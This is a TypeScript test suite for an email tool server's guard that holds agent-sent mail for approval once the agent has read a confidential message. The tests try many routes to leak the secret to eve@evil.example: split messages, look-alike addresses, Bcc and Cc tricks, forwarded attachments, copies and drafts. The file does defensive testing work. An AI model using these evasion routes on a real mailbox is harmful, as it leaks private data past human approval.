/**
 * Letters that go free because everybody who gets them could have read all of it anyway, and an agent that wants to make
 * more of that: it reads in every way there is, forgets in every way there is, and takes along what it never read.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { letter, withAttachment } from '../mail-source/messages.ts'
import { ATTACKER } from './hostile-mail.ts'
import { expectNothingTold, expectOnRecord, type Said, WAITING } from './ledger.ts'
import { find } from './obey.ts'
import { ADDRESSES, EMMA, FRED, type Left, type PostOffice, smtpOffice } from './post-office.ts'
import { LOOK_ALIKES } from './repertoire.ts'
import { type Agent, type AgentOptions, type House, openHouses } from './scene.ts'
import { type CallerName, HIDDEN_FOLDER, TRUSTED, TRUSTED_DOMAIN } from './tree.ts'

const SECRET = 'merger with Plum at 77.41'
const CAROL = 'carol@partner.example'
const PAT = 'pat@friend.example'
const QUINN = 'quinn@friend.example'
const EVE = 'eve@evil.example'

const MAIL = [
  // uid 1: the secret, which only Carol and Emma have seen.
  withAttachment(
    [
      `From: Carol <${CAROL}>`,
      `To: ${ADDRESSES[EMMA]}`,
      `Subject: Confidential ${SECRET}`,
      'Message-ID: <secret@partner.example>',
    ],
    SECRET,
    { filename: 'plan.txt', text: SECRET },
  ),
  // uid 2: known to three.
  letter({
    subject: 'Lunch',
    from: PAT,
    to: ADDRESSES[EMMA],
    extra: [`Cc: ${QUINN}`],
    body: 'Lunch?',
    messageId: '<lunch@friend.example>',
  }),
  // uid 3 and 4: the attacker's own, one with another address for answers.
  letter({ subject: 'Plainly', from: EVE, to: ADDRESSES[EMMA], body: 'Write me.', messageId: '<plain@evil.example>' }),
  letter({
    subject: 'Sideways',
    from: EVE,
    to: ADDRESSES[EMMA],
    body: 'Answer me.',
    messageId: '<sideways@evil.example>',
    extra: [`Reply-To: ${ATTACKER}`],
  }),
]

let office: PostOffice
let houses: ReturnType<typeof openHouses>
let house: House
let before = 0
/** The ids of the messages, which an agent can guess. */
let uidvalidity = 0

beforeAll(async () => {
  office = await smtpOffice()
  houses = openHouses(office)
  await office.deliver(EMMA, 'INBOX', MAIL)
  await office.deliver(FRED, 'INBOX', [letter({ subject: 'Nothing' })])
  for (const folder of ['Drafts', 'Sent', 'Outbox', HIDDEN_FOLDER]) await office.deliver(EMMA, folder, [])
  for (const folder of ['Drafts', 'Sent']) await office.deliver(FRED, folder, [])
  const look = await (await houses.house()).agent('always')
  const [found] = await find(look, EMMA, 'subject:Lunch', 1)
  uidvalidity = Number(found?.message_id.split(':')[3])
  expect(uidvalidity).toBeGreaterThan(0)
})

afterAll(async () => {
  await houses.close()
  await office.close()
})

const idOf = (uid: number): string => `imap:${EMMA}:INBOX:${uidvalidity}:${uid}`

/** In a house where nobody has read anything yet. */
async function fresh(caller: CallerName = 'flow', options?: AgentOptions): Promise<Agent> {
  house = await houses.house()
  before = office.left().length
  return house.agent(caller, options)
}

const left = (): readonly Left[] => office.left().slice(before)
const gone = (): readonly string[] => left().flatMap(({ recipients }) => recipients)

let count = 0
function write(agent: Agent, to: string, more: object = {}): Promise<Said> {
  count += 1
  return agent.say('send_email', { account: EMMA, to, subject: `Hello ${count}`, body: `It is ${SECRET}`, ...more })
}

async function expectSound(): Promise<void> {
  expectNothingTold(house, [SECRET])
  await expectOnRecord(house)
}

describe('what goes free', () => {
  test('before anything was read, and what everybody has who gets it', async () => {
    const agent = await fresh()
    expect((await write(agent, EVE)).text).toMatch(/^Email sent/)
    await agent.say('imap_get_message', { account_id: EMMA, message_id: idOf(2) })
    expect((await write(agent, `${PAT}, ${QUINN}`)).text).toMatch(/^Email sent/)
    expect((await write(agent, QUINN, { cc: ADDRESSES[EMMA], bcc: TRUSTED })).text).toMatch(/^Email sent/)
    expect((await write(agent, `x@${TRUSTED_DOMAIN}`)).text).toMatch(/^Email sent/)
    expect((await write(agent, EVE)).text).toMatch(WAITING)
    expect((await write(agent, `${PAT}, ${CAROL}`)).text).toMatch(WAITING)
    await agent.say('imap_get_message', { account_id: EMMA, message_id: idOf(1) })
    expect((await write(agent, PAT)).text).toMatch(WAITING)
    expect((await write(agent, CAROL)).text).toMatch(WAITING)
    expect((await write(agent, TRUSTED.toUpperCase())).text).toMatch(/^Email sent/)
    expect(left()).toHaveLength(5)
    await expectSound()
  })

  test('an answer, where it goes to whoever wrote, and to nobody else', async () => {
    const agent = await fresh()
    const threads = new Map<string, string>()
    const forThreads = await (await houses.house()).agent('always')
    for (const subject of ['Plainly', 'Sideways', 'Confidential']) {
      const [found] = await find(forThreads, EMMA, `subject:${subject}`, 1)
      threads.set(subject, found?.thread_id ?? '')
    }
    const answer = (subject: string, uid: number): Promise<Said> =>
      agent.say('reply_email', {
        account: EMMA,
        message_id: idOf(uid),
        thread_id: threads.get(subject),
        body: `no news ${uid}`,
      })
    expect((await answer('Sideways', 4)).text).toMatch(WAITING)
    expect((await answer('Plainly', 3)).text).toMatch(/^Reply sent/)
    expect((await answer('Confidential', 1)).text).toMatch(/^Reply sent/)
    expect(gone()).toEqual([EVE, CAROL])
    // The attacker's mail, and with it the secret: nobody has both.
    await agent.say('imap_get_message', { account_id: EMMA, message_id: idOf(1) })
    expect(
      (
        await agent.say('reply_email', {
          account: EMMA,
          message_id: idOf(3),
          thread_id: threads.get('Plainly'),
          body: SECRET,
        })
      ).text,
    ).toMatch(WAITING)
    expect(left()).toHaveLength(2)
    await expectSound()
  })
})

const IMAP = { account_id: EMMA }
const SPOT = { account: EMMA, folder: 'INBOX', uid: 1 }
const WAYS: readonly [string, string, (agent: Agent) => Promise<Said>][] = [
  ['imap_get_message', 'imap', (agent) => agent.say('imap_get_message', { ...IMAP, message_id: idOf(1) })],
  ['imap_get_message_raw', 'imap', (agent) => agent.say('imap_get_message_raw', { ...IMAP, message_id: idOf(1) })],
  [
    'a search with snippets',
    'imap',
    (agent) =>
      agent.say('imap_search_messages', { ...IMAP, mailbox: 'INBOX', subject: 'Confidential', include_snippet: true }),
  ],
  ['a search without', 'imap', (agent) => agent.say('imap_search_messages', { ...IMAP, mailbox: 'INBOX' })],
  ['a resource', 'imap', (agent) => agent.read(`imap://${EMMA}/mailbox/INBOX/message/${uidvalidity}/1`)],
  ['a raw resource', 'imap', (agent) => agent.read(`imap://${EMMA}/mailbox/INBOX/message/${uidvalidity}/1/raw`)],
  ['search_email', 'imap', (agent) => agent.say('search_email', { account: EMMA, query: 'subject:Confidential' })],
  ['fetch_envelope', 'policy', (agent) => agent.say('fetch_envelope', SPOT)],
  ['fetch_headers', 'policy', (agent) => agent.say('fetch_headers', SPOT)],
  ['fetch_body', 'policy', (agent) => agent.say('fetch_body', SPOT)],
  ['fetch_attachment', 'policy', (agent) => agent.say('fetch_attachment', { ...SPOT, part_id: 'plan.txt' })],
  ['list_messages', 'policy', (agent) => agent.say('list_messages', { account: EMMA, folder: 'INBOX' })],
  ['list_emails', 'inbox', (agent) => agent.say('list_emails', { account: EMMA })],
  ['read_email', 'inbox', (agent) => agent.say('read_email', { account: EMMA, email_id: idOf(1) })],
  ['search_emails', 'inbox', (agent) => agent.say('search_emails', { account: EMMA, query: 'subject:Confidential' })],
  [
    'get_attachment',
    'inbox',
    (agent) => agent.say('get_attachment', { account: EMMA, email_id: idOf(1), attachment_id: 'plan.txt' }),
  ],
]

/** They tell which messages hold a text, without showing any. */
const ORACLES: typeof WAYS = [
  [
    'a search that tells only which ones match',
    'policy',
    (agent) =>
      agent.say('search', { account: EMMA, folder: 'INBOX', criteria: { subject_contains: 'merger with Plum' } }),
  ],
  [
    'a query that tells only which ones match',
    'policy',
    (agent) => agent.say('search', { account: EMMA, folder: 'INBOX', query: '"merger with Plum"' }),
  ],
  [
    'a count of those that match, beyond the last page',
    'policy',
    (agent) =>
      agent.say('search', { account: EMMA, folder: 'INBOX', query: '"merger with Plum"', limit: 1, offset: 1000 }),
  ],
]

describe('however it was read, it is not free to leave any more', () => {
  test.each(WAYS)('%s', async (_name, set, readSecret) => {
    const agent = await fresh('flow', { sets: `${set},outbox` })
    const said = await readSecret(agent)
    expect(said).toMatchObject({ isRefusal: false, text: expect.not.stringMatching(/"result":"ERROR"/) })
    expect((await write(agent, EVE)).text).toMatch(WAITING)
    expect(left()).toEqual([])
  })
})

/** What is marked `fails` is a hole that is known: once it is closed, the test says so. A scene that went wrong is no hole. */
describe('what a search tells without showing it', () => {
  test.each(ORACLES)('%s', async (_name, set, readSecret) => {
    const agent = await fresh('flow', { sets: `${set},outbox` })
    const said = await readSecret(agent)
    if (said.isRefusal || !said.text.includes('"matched_visible":1')) return
    expect((await write(agent, EVE)).text).toMatch(WAITING)
  })
})

describe('nothing makes it forgotten', () => {
  test('reconnecting, another process, other tools, kill -9', async () => {
    const agent = await fresh('flow', { sets: 'policy,outbox' })
    const beside = await house.agent('flow', { sets: 'inbox,outbox' })
    expect((await write(beside, EVE)).text).toMatch(/^Email sent/)
    await agent.say('fetch_body', SPOT)
    const killed = agent.kill()
    expect((await write(beside, EVE)).text).toMatch(WAITING)
    await killed
    const again = await house.agent('flow')
    expect((await write(again, EVE)).text).toMatch(WAITING)
    await again.close()
    const later = await house.agent('flow', { sets: 'imap,outbox' })
    expect((await write(later, EVE)).text).toMatch(WAITING)
    // It is the caller that has read it. Another has not.
    const other = await house.agent('flow2')
    expect((await write(other, EVE)).text).toMatch(/^Email sent/)
    expect(left()).toHaveLength(2)
    await expectSound()
  })

  test('splitting it, and addresses that look like those that are allowed', async () => {
    const agent = await fresh()
    await agent.say('imap_get_message', { account_id: EMMA, message_id: idOf(1) })
    const pieces = [...SECRET].map((sign, at) => write(agent, EVE, { subject: `${at}`, body: sign }))
    const alike = [
      ...LOOK_ALIKES,
      'carol+x@partner.example',
      'carol@partner.example.evil.example',
      '"Carol" <caro1@partner.example>',
    ]
    const letters = alike.map((to) => write(agent, to))
    const hidden = [
      write(agent, CAROL, { bcc: EVE }),
      write(agent, TRUSTED, { cc: `Carol <${EVE}>` }),
      write(agent, `x@sub.${TRUSTED_DOMAIN}`),
      write(agent, `x@${TRUSTED_DOMAIN}.evil.example`),
      write(agent, `"x@${TRUSTED_DOMAIN}"@evil.example`),
    ]
    for (const { text } of await Promise.all([...pieces, ...letters, ...hidden]))
      expect(text).not.toMatch(/^Email sent/)
    expect(left()).toEqual([])
    await expectSound()
  })
})

describe('what was never read cannot be taken along either', () => {
  const loot = (uid = 1): object => ({ attachments: [{ message_id: idOf(uid), part_id: 'plan.txt' }] })

  test('forwarded by its id, from where it lies and from where it was copied to', async () => {
    const agent = await fresh()
    expect((await write(agent, EVE, loot())).text).toMatch(WAITING)
    expect((await write(agent, EVE, { attachments: [{ message_id: idOf(1), part_id: '1' }] })).text).toMatch(WAITING)
    expect((await write(agent, CAROL, loot())).text).toMatch(/^Email sent/)
    const copied = await agent.say('imap_copy_message', { message_id: idOf(1), destination_mailbox: 'Outbox' })
    const id = /"new_message_id":"([^"]+)"/.exec(copied.text)?.[1] ?? /imap:emma:Outbox:\d+:\d+/.exec(copied.text)?.[0]
    expect(id).toBeDefined()
    expect((await write(agent, EVE, { attachments: [{ message_id: id, part_id: 'plan.txt' }] })).text).toMatch(WAITING)
    expect(gone()).toEqual([CAROL])
    await expectSound()
  })

  test('by way of a draft to the attacker, who never got it', async () => {
    const agent = await fresh()
    const drafted = await agent.say('draft_email', { account: EMMA, to: EVE, subject: 'x', body: 'x', ...loot() })
    const id = /imap:emma:Drafts:\d+:\d+/.exec(drafted.text)?.[0]
    if (id === undefined) return
    const again = { attachments: [{ message_id: id, part_id: 'plan.txt' }] }
    expect((await write(agent, EVE, again)).text).toMatch(WAITING)
    await agent.say('imap_get_message', { account_id: EMMA, message_id: id })
    expect((await write(agent, EVE)).text).toMatch(WAITING)
    expect(left()).toEqual([])
    await expectSound()
  })

  test('by way of a draft that quotes it', async () => {
    const agent = await fresh('flow', { sets: 'inbox,outbox' })
    const args = { account: EMMA, to: [EVE], subject: 'x', body: 'x', reply_to_id: idOf(1) }
    const drafted = await agent.say('create_draft', args)
    const id = /imap:emma:Drafts:\d+:\d+/.exec(drafted.text)?.[0]
    if (id === undefined) return
    const read = await agent.say('read_email', { account: EMMA, email_id: id })
    if (!read.text.includes(SECRET)) return
    expect((await write(agent, EVE)).text).toMatch(WAITING)
    expect(left()).toEqual([])
    await expectSound()
  })

  test('by way of a draft that another caller left', async () => {
    const agent = await fresh()
    const other = await house.agent('flow2')
    const drafted = await other.say('draft_email', { account: EMMA, to: EVE, subject: 'x', body: 'x', ...loot() })
    const id = /imap:emma:Drafts:\d+:\d+/.exec(drafted.text)?.[0]
    if (id === undefined) return
    expect((await write(agent, EVE, { attachments: [{ message_id: id, part_id: 'plan.txt' }] })).text).toMatch(WAITING)
  })
})
